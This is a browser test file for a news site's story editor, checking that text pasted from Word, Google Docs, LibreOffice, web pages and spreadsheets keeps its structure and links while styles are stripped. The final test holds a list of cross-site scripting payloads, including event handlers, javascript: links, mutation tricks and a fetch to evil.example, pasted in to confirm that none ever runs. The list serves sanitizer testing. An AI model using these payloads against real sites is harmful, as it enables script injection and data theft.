"""What is pasted into a story, in a real browser: structure and links come in, styles and traps stay outside."""

# ruff: noqa: E501  pasted text comes in long lines

import re

import pytest
from playwright.sync_api import expect

from articles import body
from articles.models import Article

from .browsing import enters, inside, text_of, writing

__all__ = ["inside", "writing"]

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PASTE = """([html, text]) => {
    const held = new DataTransfer();
    if (html) held.setData("text/html", html);
    held.setData("text/plain", text);
    const paste = new ClipboardEvent("paste", { clipboardData: held, bubbles: true, cancelable: true });
    document.querySelector(".ProseMirror").dispatchEvent(paste);
}"""


def pastes(page, html: str = "", text: str = "") -> None:
    """Into an empty story, as a browser would."""
    page.evaluate("editor.chain().setContent('<p></p>').setTextSelection(1).run()")
    page.evaluate(PASTE, [html, text])


WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head>
<style><!--p.MsoNormal{margin:0}--></style><!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head><body lang=EN-GB>
<!--StartFragment--><p class=MsoTitle><span style='mso-fareast-font-family:"Times New Roman"'>Title of the paper</span></p>
<h1 style='mso-list:none'><b>A part</b><o:p></o:p></h1>
<p class=MsoNormal style='mso-margin-top-alt:auto'>The <b>convoy</b> left<span style='mso-spacerun:yes'>  </span><i style='mso-bidi-font-style:normal'>at dawn</i><a style='mso-comment-reference:AB_1;mso-comment-date:20201125'></a><span class=MsoCommentReference><span style='mso-special-character:comment'>&nbsp;<a class=msocomanchor href="#_msocom_1">[AB1]</a></span></span>.<del cite="mailto:A"> Struck out.</del><ins cite="mailto:A"> Put in.</ins><o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>One<o:p></o:p></p>
<p class=MsoListParagraphCxSpMiddle style='text-indent:-18pt;mso-list:l0 level2 lfo1'><span>o<span>&nbsp;&nbsp; </span></span>Half</p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18pt;mso-list:l0 level1 lfo1'><span>·<span>&nbsp;&nbsp; </span></span>Two</p>
<p class=MsoQuote>Said so.</p>
<table class=MsoTableGrid border=1 style='border-collapse:collapse'><tr style='mso-yfti-irow:0'><td width=301 valign=top colspan=2><p class=MsoNormal>Both</p></td></tr><tr><td><p class=MsoNormal>Left</p><p class=MsoNormal>again</p></td><td><p class=MsoNormal>Right<o:p></o:p></p></td></tr></table>
<div style='mso-element:comment-list'><div class=msocomtxt id="_com_1"><p class=MsoCommentText>Is this right?</p></div></div>
<!--EndFragment--></body></html>"""
DOCS = """<meta charset="utf-8"><b style="font-weight:normal" id="docs-internal-guid-1"><h1 dir="ltr"><span style="font-weight:400">Head</span></h1><p dir="ltr" style="line-height:1.38"><span
 style="font-weight:700">Bold</span><span style="font-style:italic"> slanted</span><span style="font-weight:400"> plain
</span><a href="https://www.google.com/url?q=https://example.org/a?x%3D1%26utm_source%3Ddoc&amp;sa=D" style="text-decoration:none"><span>link</span></a></p><ul><li dir="ltr" aria-level="1"><p role="presentation"><span>One</span></p></li><ul><li aria-level="2"><p><span>Half</span></p></li></ul><li><p><span>Two</span></p></li></ul><br><table><colgroup><col><col></colgroup><tbody><tr><td><p><span>A</span></p></td><td><p><span>B</span></p></td></tr></tbody></table></b><br class="Apple-interchange-newline">"""
WRITER = """<html><head><meta name="generator" content="LibreOffice 24.2"/><style>p{margin:1cm}</style></head><body lang="en-GB">
<h3 class="western">Head</h3><p style="line-height: 100%; margin-bottom: 0cm"><font face="Liberation Serif"><b>Bold</b> and <sdfield type=PAGE>3</sdfield>plain</font></p>
<ol><li><p style="margin-bottom: 0cm">First</p></li><li><p>Second</p></li></ol><dl><dd><table width="100%"><thead><tr><th><p>H</p></th><th><p>K</p></th></tr></thead><tbody><tr><td><p>1</p></td><td><p>2</p></td></tr></tbody></table></dd></dl></body></html>"""
PAGE = """<nav hidden><a href="/menu">Menu</a></nav><article><h2 class="x">Head <svg><title>icon</title></svg></h2><div><div>Text with a <a href="https://example.org/s?id=7&fbclid=abc&utm_medium=x#part" target="_blank" onclick="track()">link</a>,
<a href="/relative">another</a> and <a href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fexample.org%2Fsafe&data=05">a safe one</a>.</div></div>
<figure><img src="https://tracker.example/p.gif" alt="x"><figcaption>Caption</figcaption></figure><blockquote><p>Said.</p></blockquote><span style="display:none">Unseen</span><button>Share</button></article>"""
SHEET = """<google-sheets-html-origin><style>td{border:1px}</style><table xmlns="http://www.w3.org/1999/xhtml" cellspacing="0"><colgroup><col width="100"/></colgroup><tbody><tr><td style="overflow:hidden" data-sheets-value='{"1":2}'>A</td><td rowspan="2">B</td></tr><tr><td>C</td></tr></tbody></table>"""
PASTED = {
    "Word": (
        WORD,
        [
            "<h2>Title of the paper</h2>",
            "<h2>A part</h2>",
            "<p>The <strong>convoy</strong> left <em>at dawn</em>. Put in.</p>",
            "<ul><li>One<ul><li>Half</li></ul></li><li>Two</li></ul>",
            "<blockquote><p>Said so.</p></blockquote>",
            "<table><tr><td>Both</td><td></td></tr><tr><td>Left<br>again</td><td>Right</td></tr></table>",
        ],
    ),
    "Google Docs": (
        DOCS,
        [
            "<h2>Head</h2>",
            '<p><strong>Bold</strong><em> slanted</em> plain <a href="https://example.org/a?x=1">link</a></p>',
            "<ul><li>One<ul><li>Half</li></ul></li><li>Two</li></ul>",
            "<table><tr><td>A</td><td>B</td></tr></table>",
        ],
    ),
    "LibreOffice": (
        WRITER,
        [
            "<h3>Head</h3>",
            "<p><strong>Bold</strong> and plain</p>",
            "<ol><li>First</li><li>Second</li></ol>",
            "<table><tr><th>H</th><th>K</th></tr><tr><td>1</td><td>2</td></tr></table>",
        ],
    ),
    "a web page": (
        PAGE,
        [
            "<h2>Head</h2>",
            '<p>Text with a <a href="https://example.org/s?id=7#part">link</a>, another and <a href="https://example.org/safe">a safe one</a>.</p>',
            "<p>Caption</p>",
            "<blockquote><p>Said.</p></blockquote>",
        ],
    ),
    "a spreadsheet": (SHEET, ["<table><tr><td>A</td><td>B</td></tr><tr><td>C</td><td></td></tr></table>"]),
}
PLAIN = {
    "**Not** _bold_\n# no heading\n\n- no list": "<p>**Not** _bold_<br># no heading</p>\n<p>- no list</p>",
    "One line\r\nAnother line\r\n": "<p>One line</p>\n<p>Another line</p>",
    "<b>not markup</b> & so on": "<p>&lt;b&gt;not markup&lt;/b&gt; &amp; so on</p>",
}


def test_what_is_pasted_keeps_its_words_and_its_meaning(writing):
    page, here = writing()
    for source, (html, blocks) in PASTED.items():
        pastes(page, html, "words")
        assert body.clean(text_of(page)).split("\n") == blocks, source
    for text, made in PLAIN.items():
        pastes(page, text=text)
        assert text_of(page) == made
    assert here.complaints == []


def test_into_a_line_of_a_box_only_words_are_pasted(writing):
    page, _here = writing(
        '<aside data-kind="timeline"><dl><dt>May</dt><dd>Came</dd></dl></aside>\n<table><tr><td>A</td><td>B</td></tr></table>'
    )
    for words in ("May", "A"):
        enters(page.locator(".ProseMirror").get_by_text(words, exact=True))
        page.keyboard.press("End")
        page.wait_for_timeout(100)  # a browser tells of a selection some frames late
        page.evaluate(PASTE, ["<h2> 7th</h2><ul><li><b>and</b></li><li>more</li></ul>", "x"])

    assert body.clean(text_of(page)) == (
        '<aside data-kind="timeline"><dl><dt>May7th <strong>and</strong> more</dt><dd>Came</dd></dl></aside>\n'
        "<table><tr><td>A7th <strong>and</strong> more</td><td>B</td></tr></table>"
    )


def test_an_address_alone_becomes_a_card_or_a_link_to_our_story(writing, published, live_server, settings):
    settings.SITE_URL = live_server.url
    path = published().address.path
    page, here = writing()
    uid = Article.objects.get().uid
    film = '<div data-embed="youtube" data-url="https://www.youtube.com/watch?v=abcdefghijk"></div>'
    ours = f'<a data-article="{uid}">Base handed over</a>'

    pastes(page, text="https://youtu.be/abcdefghijk?si=x")
    expect(page.get_by_role("group", name="YouTube")).to_be_visible()
    assert text_of(page) == film
    pastes(page, text=f"{live_server.url}{path}?from=home")
    expect(page.locator(".ProseMirror a[data-article]")).to_be_visible()
    assert text_of(page) == f"<p>{ours}</p>"
    pastes(page, text="https://example.org/else")
    assert text_of(page) == '<p><a href="https://example.org/else">https://example.org/else</a></p>'

    pastes(
        page,
        f'<p>See <a href="{live_server.url}{path}">this</a>.</p><p>https://youtu.be/abcdefghijk</p>'
        '<iframe src="https://www.youtube.com/embed/abcdefghijk"></iframe><p>End</p>',
        "x",
    )
    expect(page.get_by_role("group", name="YouTube")).to_have_count(2)
    expect(page.locator(".ProseMirror a[data-article]")).to_have_text("this")
    assert text_of(page) == f'<p>See <a data-article="{uid}">this</a>.</p>\n{film}\n{film}\n<p>End</p>'

    page.evaluate("editor.chain().setContent('<p>Words</p>').setTextSelection({ from: 1, to: 6 }).run()")
    page.evaluate(PASTE, ["", "https://example.org/else"])
    assert text_of(page) == '<p><a href="https://example.org/else">Words</a></p>'
    assert here.complaints == []


CALLS = ["alert(1)", "window.__hit=1", "fetch('https://evil.example/')"]
TRAPS = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}><circle r=1></svg>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}'>here</a>",
    "<a href=' java\nscript:{}'>here</a>",
    "<a href='&#106;avascript:{}'>here</a>",
    "<a href='data:text/html,<script>{}</script>'>here</a>",
    "<p style=\"background:url('javascript:{}')\">styled</p>",
    "<p title='>' onclick=\"{}\">quoted</p>",
    '<p title=">"style="x:1"onmouseover=\'{}\'>tight</p>',
    "<details open ontoggle={}>more</details>",
    "<video><source onerror={}></video>",
    "<object data='javascript:{}'></object><embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>go</button></form>",
    "<template><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<style>@import 'javascript:{}';</style><link rel=stylesheet href='javascript:{}'>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<!--><img src=x onerror={}>-->",
    "<figure data-image='\"><img src=x onerror={}>'></figure>",
    "<div data-embed='youtube' data-url='javascript:{}'></div>",
    "<div data-unknown='<img src=x onerror={}>'></div>",
    "<div data-pm-slice='0 0 []'><img src=x onerror={}><p onclick='{}'>ours</p><a data-article='\"><script>{}</script>'>x</a></div>",
    "<div data-pm-slice='0 0 []'><div data-unknown='<script>{}</script>'></div></div>",
]


def test_nothing_that_is_pasted_is_ever_run_and_the_server_keeps_none_of_it(writing, story):
    page, here = writing()
    page.evaluate("() => { window.alert = () => (window.hit = 1); }")
    for call in CALLS:
        for trap in TRAPS:
            pastes(page, trap.replace("{}", call), "words")
    pastes(page, "<p>Words</p>" + "".join(trap.replace("{}", CALLS[1]) for trap in TRAPS), "words")
    page.evaluate("() => new Promise(requestAnimationFrame)")

    assert page.evaluate("window.hit ?? null") is None
    inside = (
        "document.querySelectorAll('.ProseMirror :is(script, iframe, object, embed, form, style, link, svg)').length"
    )
    assert page.evaluate(inside) == 0
    here.saves()
    assert here.complaints == []
    kept = Article.objects.get(pk=story.pk).body
    assert kept.startswith("<p>Words</p>")
    assert not re.search(r"<(?!/?(p|a|em|strong|br|div|table|tr|td)\b)|\son\w+=|javascript:|data:", kept)
